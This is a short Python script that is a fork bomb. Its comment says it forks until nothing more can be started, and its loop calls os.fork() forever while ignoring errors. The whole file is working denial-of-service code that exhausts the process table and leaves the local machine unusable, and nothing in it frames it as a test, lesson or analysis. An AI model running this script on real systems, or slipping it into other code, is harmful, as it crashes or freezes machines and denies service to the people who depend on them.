# Forks until nothing can be started any more.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
